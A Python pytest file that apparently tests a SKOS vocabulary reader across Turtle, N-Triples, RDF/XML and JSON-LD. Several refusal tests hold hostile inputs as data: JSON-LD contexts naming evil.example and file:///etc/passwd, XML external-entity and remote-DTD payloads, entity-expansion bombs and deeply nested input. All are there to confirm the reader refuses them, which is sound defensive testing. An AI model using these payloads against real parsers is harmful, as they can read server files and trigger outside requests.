"""SKOS vocabularies: Turtle, N-Triples, RDF/XML and JSON-LD, and what is refused in each."""

import json
import socket
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError

from taxonomy.vocabulary.readers import skos
from tests.taxonomy.vocabulary.readers.shown import seen
from tests.taxonomy.vocabulary.readers.skos_given import rows

SKOS = "http://www.w3.org/2004/02/skos/core#"
TURTLE = """\ufeff@base <https://example.org/voc/> .
PREFIX skos: <http://www.w3.org/2004/02/skos/core#>

# the top
<digital> a skos:Concept ; skos:prefLabel "Digital"@en .

  <web> a skos:Concept ;
    skos:broader <digital> ;
    skos:prefLabel "Web"@en .
"""
TRIPLES = f"""\
<https://example.org/voc/web> <{SKOS}broader> <https://example.org/voc/digital> .
<https://example.org/voc/web> <{SKOS}prefLabel> "Web"@en .
<https://example.org/voc/digital> <{SKOS}prefLabel> "Digital"@en .
"""
XML = f"""\
<?xml version="1.0" encoding="ISO-8859-1"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:skos="{SKOS}" xml:base="https://example.org/voc/">
  <skos:Concept rdf:about="digital"><skos:prefLabel xml:lang="en">Digital</skos:prefLabel></skos:Concept>
  <skos:Concept rdf:about="https://example.org/voc/web">
    <skos:prefLabel xml:lang="en">Web</skos:prefLabel>
    <skos:broader rdf:resource="digital"/>
  </skos:Concept>
</rdf:RDF>
"""
GRAPH = [
    {
        "@id": "https://example.org/voc/digital",
        "@type": f"{SKOS}Concept",
        f"{SKOS}prefLabel": {"@value": "Digital", "@language": "en"},
    },
    {
        "@id": "https://example.org/voc/web",
        "@type": f"{SKOS}Concept",
        f"{SKOS}prefLabel": {"@value": "Web", "@language": "en"},
        f"{SKOS}broader": {"@id": "https://example.org/voc/digital"},
    },
]


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object, **_options: object) -> None:
        raise AssertionError("a reader opened a socket")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def given(path: Path, name: str, text: str) -> Path:
    file = path.with_name(name)
    file.write_text(text, encoding="utf-8")
    return file


@pytest.mark.parametrize(
    ("name", "text", "lines"),
    [
        ("a.ttl", TURTLE, (5, 7)),
        ("a.txt", TURTLE, (5, 7)),
        ("a.rdf", TURTLE, (5, 7)),
        ("a.nt", TRIPLES, (3, 1)),
        ("a.ttl", TRIPLES, (3, 1)),
        ("a.rdf", XML, (3, 4)),
        ("a.xml", XML, (3, 4)),
        ("a.ttl", XML, (3, 4)),
        ("a.owl", XML.partition("\n")[2], (2, 3)),
        ("a.jsonld", json.dumps(GRAPH), (0, 0)),
        ("a.json", json.dumps({"@graph": GRAPH}), (0, 0)),
        ("a.txt", "\n " + json.dumps(GRAPH), (0, 0)),
    ],
)
def test_the_start_or_else_the_suffix_tells_the_format(path: Path, name: str, text: str, lines: tuple[int, int]) -> None:
    assert seen(skos.read(given(path, name, text))) == [
        ("digital", "", {"en": "Digital"}, lines[0]),
        ("web", "digital", {"en": "Web"}, lines[1]),
    ]


@pytest.mark.parametrize(
    ("name", "text", "lines"),
    [
        ("a.ttl", TURTLE.replace("@base <https://example.org/voc/> .", ""), (5, 7)),
        ("a.rdf", XML.replace('xml:base="https://example.org/voc/"', "").replace("https://example.org/voc/web", "web"), (3, 4)),
    ],
)
def test_relative_addresses_name_terms_of_this_file_only(path: Path, name: str, text: str, lines: tuple[int, int]) -> None:
    assert [(row.code, row.uri, row.parent_code, row.row) for row in skos.read(given(path, name, text)).rows] == [
        ("digital", "", "", lines[0]),
        ("web", "", "digital", lines[1]),
    ]


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("context", ["https://openactive.io/", ["https://openactive.io", {"@language": "en"}]])
def test_a_context_that_is_bundled(path: Path, context: object) -> None:
    document = {
        "@context": context,
        "id": "https://openactive.io/facility-types",
        "type": "ConceptScheme",
        "concept": [
            {"id": "https://openactive.io/facility-types#1", "prefLabel": "Court", "notation": "court"},
            {
                "id": "https://openactive.io/facility-types#2",
                "type": "Concept",
                "prefLabel": "Squash Court",
                "altLabel": ["Squash"],
                "notation": "squash",
                "broader": ["https://openactive.io/facility-types#1"],
            },
        ],
    }
    reading = skos.read(given(path, "a.jsonld", json.dumps(document)))
    assert [(row.code, row.parent_code, list(row.labels.values())) for row in reading.rows] == [
        ("court", "", ["Court"]),
        ("squash", "court", ["Squash Court"]),
    ]
    assert reading.scheme_uri == "https://openactive.io/facility-types"


@pytest.mark.usefixtures("no_network")
def test_the_context_of_skos_itself(path: Path) -> None:
    document = {
        "@context": SKOS,
        "@graph": [
            {
                "id": "https://e.example/a",
                "type": "Concept",
                "prefLabel": {"@value": "A", "@language": "en"},
                "deprecated": True,
            },
            {"id": "https://e.example/b", "inScheme": "https://e.example/", "broader": "https://e.example/a", "notation": "B1"},
        ],
    }
    read = rows(skos.read(given(path, "a.json", json.dumps(document))))
    assert {code: (row.parent_code, row.status) for code, row in read.items()} == {
        "a": ("", "deprecated"),
        "B1": ("a", "active"),
    }


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    "document",
    [
        {"@context": "https://evil.example/context.jsonld", "@graph": GRAPH},
        {"@context": ["https://openactive.io/", "https://evil.example/context.jsonld"], "@graph": GRAPH},
        {"@context": [["https://evil.example/context.jsonld"]], "@graph": GRAPH},
        {"@graph": [{"@id": "https://e.example/a", "@context": "https://evil.example/context.jsonld"}]},
        [{"@context": {"part": {"@id": "https://e.example/p", "@context": "https://evil.example/context.jsonld"}}}],
        {"@context": {"@import": "https://evil.example/context.jsonld"}, "@graph": GRAPH},
        {"@context": {"@context": "https://evil.example/context.jsonld"}, "@graph": GRAPH},
    ],
)
def test_no_other_context_is_fetched(path: Path, document: object) -> None:
    with pytest.raises(
        ValidationError, match=r"a\.jsonld names the context “https://evil\.example/context\.jsonld”, which is not"
    ):
        skos.read(given(path, "a.jsonld", json.dumps(document)))


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("context", ["file:///etc/passwd", "/etc/passwd", "context.jsonld", "//evil.example/c", ""])
def test_nor_is_any_file_of_this_machine(path: Path, context: str) -> None:
    given(path, "context.jsonld", '{"@context": {}}')
    with pytest.raises(ValidationError, match="which is not known here"):
        skos.read(given(path, "a.jsonld", json.dumps({"@context": context, "@graph": GRAPH})))


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    ("doctype", "line"),
    [
        ('<!DOCTYPE r [<!ENTITY a "boom">]>', 2),
        ('<!DOCTYPE r [\n<!ENTITY a "aaaaaaaaaa">\n<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>', 3),
        ('<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>', 2),
        ('<!DOCTYPE r [<!ENTITY a SYSTEM "https://evil.example/">]>', 2),
        ('<!DOCTYPE r [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>', 2),
        ('<!DOCTYPE r SYSTEM "https://evil.example/a.dtd">', 2),
        ('<!DOCTYPE r PUBLIC "-//X//Y" "https://evil.example/a.dtd">', 2),
    ],
)
def test_entities_and_outside_dtds_are_refused(path: Path, doctype: str, line: int) -> None:
    text = XML.replace("?>\n", f"?>\n{doctype}\n", 1).replace(">Web<", ">&a;<")
    with pytest.raises(ValidationError, match=rf"a\.rdf:{line}: entities and DTDs are not read"):
        skos.read(given(path, "a.rdf", text))


def test_a_doctype_without_entities_does_no_harm(path: Path) -> None:
    text = XML.replace("?>\n", "?>\n<!DOCTYPE rdf:RDF>\n", 1)
    assert list(rows(skos.read(given(path, "a.rdf", text)))) == ["digital", "web"]


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("a.ttl", "@prefix ex: <https://example.org/> .\nex:web a ~ .", r"a\.ttl:2: this is not Turtle"),
        ("a.ttl", "ex:web a ex:Concept .", r"a\.ttl:1: this is not Turtle"),
        ("a.ttl", "[ " * 5_000, r"a\.ttl cannot be read as Turtle"),
        ("a.ttl", "<a> a [ ?x", r"a\.ttl.*Turtle"),
        ("a.nt", "<https://example.org/a> <https://example.org/b> .", r"a\.nt.*Turtle"),
        ("a.ttl", "<a> a <http://www.w3.org/2002/07/owl#Thing> .", r"a\.ttl holds no SKOS concept\."),
        ("a.ttl", "", r"a\.ttl holds no SKOS concept\."),
        ("a.rdf", "<rdf:RDF>", r"a\.rdf:1: this is not XML \(unbound prefix\)"),
        (
            "a.rdf",
            XML.replace("</skos:broader>", "").replace("</rdf:RDF>", ""),
            r"a\.rdf:9: this is not XML \(no element found\)",
        ),
        (
            "a.rdf",
            XML.replace('"en">Web', '"en_US">Web'),
            r"a\.rdf cannot be read as RDF/XML \('en_US' is not a valid language tag!\)",
        ),
        ("a.xml", "<?xml version='1.0'?><rss><channel/></rss>", r"a\.xml"),
        ("a.json", '{"@graph": [\n{]}', r"a\.json:2: this is not JSON"),
        ("a.json", "[]", r"a\.json holds no SKOS concept\."),
        ("a.json", "3", r"a\.json"),
        ("a.json", '{"id": 1, "children": [{"name": "x"}]}', r"a\.json holds no SKOS concept\."),
        ("a.json", "[{" + '"a":[' * 100_000, r"a\.json"),
        ("a.json", '{"@graph": ' + "[" * 5_000 + "]" * 5_000 + "}", r"a\.json"),
    ],
)
def test_what_is_no_vocabulary_is_refused(path: Path, name: str, text: str, message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        skos.read(given(path, name, text))
